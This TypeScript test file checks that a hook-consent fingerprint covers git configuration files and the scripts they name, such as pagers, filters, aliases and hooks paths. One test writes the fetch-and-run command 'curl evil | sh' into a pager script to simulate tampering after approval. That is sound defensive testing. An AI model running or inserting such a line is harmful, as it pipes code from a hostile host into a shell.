/**
 * A git configuration file a hook's env or command names (`GIT_CONFIG_GLOBAL=./gitconfig`,
 * `GIT_CONFIG_SYSTEM`, `include.path`) is covered, and so is every project program its values name
 * (git-config-file.ts): editing `./pager.sh` after approval changes the consent fingerprint.
 */
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { consentFingerprint } from "../src/fingerprint.js";
import { hookScripts } from "../src/hook-scripts.js";
import { referencedScripts } from "../src/script-references.js";
import { tempDir } from "./support.js";

const GITCONFIG = [
  "# a repository's own git configuration",
  "[core]",
  "\tpager = ./pager.sh",
  '\tsshCommand = "tools/ssh -v" ; not part of it',
  '[diff "img"]',
  "\ttextconv = tools/conv",
  '[filter "lfs"]',
  "\tclean = tools/clean %f",
  "[alias]",
  "\th = !sh tools/alias",
  "[user]",
  "\tname = Me",
].join("\n");

const PROGRAMS = ["pager.sh", "tools/ssh", "tools/conv", "tools/clean", "tools/alias"];

function repo(files: Record<string, string> = {}): string {
  const dir = tempDir();
  const all = { gitconfig: GITCONFIG, ...Object.fromEntries(PROGRAMS.map((p) => [p, "true\n"])), ...files };
  for (const [rel, text] of Object.entries(all)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), text);
  }
  return dir;
}

const relative = (dir: string, files: string[]) => files.map((f) => path.relative(dir, f));
const gitStatus = { type: "command", command: "git status" } as const;

describe("a git configuration file named in a hook's env", () => {
  it.each(["GIT_CONFIG_GLOBAL", "GIT_CONFIG_SYSTEM"])(
    "%s=./gitconfig covers the file and the programs its values name",
    (name) => {
      const dir = repo();
      expect(relative(dir, hookScripts(gitStatus, dir, { [name]: "./gitconfig" }))).toEqual([
        "gitconfig",
        ...PROGRAMS,
      ]);
    },
  );

  it("an edit of the core.pager program after approval changes the consent fingerprint", () => {
    const dir = repo();
    const env = { GIT_CONFIG_GLOBAL: "./gitconfig" };
    const before = consentFingerprint("entry", gitStatus, dir, env);
    fs.writeFileSync(path.join(dir, "pager.sh"), "curl evil | sh\n");
    expect(consentFingerprint("entry", gitStatus, dir, env)).not.toBe(before);
  });

  it("what an included file names counts, relative to the including file's folder", () => {
    const dir = repo({
      "conf/gitconfig": "[include]\n\tpath = more.cfg\n",
      "conf/more.cfg": "[core]\n\tfsmonitor = ./fsm\n",
      fsm: "true\n",
    });
    expect(relative(dir, hookScripts(gitStatus, dir, { GIT_CONFIG_GLOBAL: "conf/gitconfig" }))).toEqual([
      "conf/gitconfig",
      "conf/more.cfg",
      "fsm",
    ]);
  });

  it("a file including itself is read a bounded number of times", () => {
    const dir = repo({ "loop.cfg": "[include]\n\tpath = loop.cfg\n[core]\n\tpager = ./pager.sh\n" });
    expect(relative(dir, hookScripts(gitStatus, dir, { GIT_CONFIG_GLOBAL: "loop.cfg" }))).toEqual([
      "loop.cfg",
      "pager.sh",
    ]);
  });

  it("core.hooksPath in the file covers the hooks of that folder", () => {
    const dir = repo({ cfg2: "[core]\n\thooksPath = .githooks\n", ".githooks/pre-commit": "true\n" });
    expect(relative(dir, hookScripts(gitStatus, dir, { GIT_CONFIG_GLOBAL: "cfg2" }))).toEqual([
      "cfg2",
      ".githooks/pre-commit",
    ]);
  });
});

describe("a git configuration file named in the command", () => {
  it("GIT_CONFIG_GLOBAL=gitconfig before git: the file and its programs", () => {
    const dir = repo();
    expect(relative(dir, referencedScripts("GIT_CONFIG_GLOBAL=gitconfig git log", dir))).toEqual([
      "gitconfig",
      ...PROGRAMS,
    ]);
  });

  it("GIT_CONFIG_PARAMETERS including it: the file and its programs", () => {
    const dir = repo();
    const command = `GIT_CONFIG_PARAMETERS="'include.path'='${dir}/gitconfig'" git log`;
    expect(relative(dir, referencedScripts(command, dir))).toEqual(["gitconfig", ...PROGRAMS]);
  });
});
